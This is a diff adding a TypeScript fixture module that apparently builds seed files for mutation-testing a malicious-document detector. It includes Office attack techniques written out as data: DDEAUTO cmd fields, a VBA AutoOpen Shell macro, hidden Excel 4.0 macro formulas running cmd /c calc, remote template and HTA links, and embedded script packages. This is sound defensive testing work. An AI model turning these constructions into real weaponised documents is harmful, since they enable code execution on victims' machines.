@@ -1,0 +1,86 @@
+// One small document of each format that is read as a whole, with what its reader looks for: for mutation.
+import { compoundOf } from './compound.ts'
+import { encryptedPackage, encryptedWorkbooks } from './encrypted.ts'
+import { emlOf, msgOf } from './mail.ts'
+import { addressLink, embeddedOle, nativeOf, packageOf } from './ole.ts'
+import { oneOf } from './onenote.ts'
+import { pptOf } from './powerpoint-binary.ts'
+import { rtfField, rtfObject, rtfOf } from './rtf.ts'
+import { vbaStreams } from './vba.ts'
+import { docField, docOf } from './word-binary.ts'
+import { book, ptg, xlsOf } from './workbook-binary.ts'
+
+const dde = 'DDEAUTO cmd "/k calc"'
+const script = packageOf('a.js', Buffer.from('WScript.Echo(1)'))
+
+function binarySeeds(): Readonly<Record<string, Buffer>> {
+  const object = compoundOf({
+    streams: {
+      '[1]Ole': addressLink('http://example.test/a.hta'),
+      'ObjectPool/_1/[1]Ole10Native': nativeOf(script),
+    },
+    classes: { 'ObjectPool/_1': '0003000C-0000-0000-C000-000000000046' },
+  })
+  const module = {
+    name: 'M',
+    source: 'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n',
+    compiled: ['cmd /c'],
+  }
+  const doc = docOf({
+    text: `a ${docField(`${docField('SET x "cmd"')}${dde}`)}`,
+    headers: docField(dde),
+    pieceLength: 5,
+    streams: vbaStreams('Macros/', [module]),
+  })
+  const exec = Buffer.concat([
+    ptg.text('cmd'),
+    ptg.number(46),
+    ptg.fixed(111),
+    ptg.join,
+    ptg.cell(1, 1),
+    ptg.join,
+    ptg.call(110, 1),
+  ])
+  const globals = [
+    book('cmd\x03/c calc', ['A0']),
+    book('\x01\x01Ca\x03b.xls', ['t'], 1),
+  ]
+  const xls = xlsOf({
+    globals,
+    sheets: [
+      { name: 'S', formulas: [ptg.external(0, 1)] },
+      { name: 'M', isMacro: true, hidden: 2, formulas: [exec, exec] },
+    ],
+  })
+  const rtf = rtfOf(
+    `${rtfField(dde)}${rtfObject('Package', embeddedOle('Package', script))}${rtfObject('W', embeddedOle('OLE2Link', object))}{\\*\\template http://example.test/t}`,
+  )
+  return {
+    'letter.doc': doc,
+    'book.xls': xls,
+    'object.bin': object,
+    'letter.rtf': rtf,
+  }
+}
+
+export function documentSeeds(): readonly { name: string; bytes: Buffer }[] {
+  const binary = binarySeeds()
+  const attached = Object.entries(binary).map(([name, data]) => ({
+    name,
+    data,
+  }))
+  const all = {
+    ...binary,
+    'mail.eml': emlOf(attached),
+    'mail.msg': msgOf(attached.slice(0, 1)),
+    'notes.one': oneOf(attached.slice(3)),
+    'show.ppt': pptOf({
+      links: ['http://example.test/'],
+      programs: ['cmd'],
+      objects: [binary['letter.doc']!],
+    }),
+    'locked.xls': encryptedWorkbooks.XOR!('VelvetSweatshop', []),
+    'locked.docx': encryptedPackage('VelvetSweatshop', Buffer.alloc(5000, 1)),
+  }
+  return Object.entries(all).map(([name, bytes]) => ({ name, bytes }))
+}
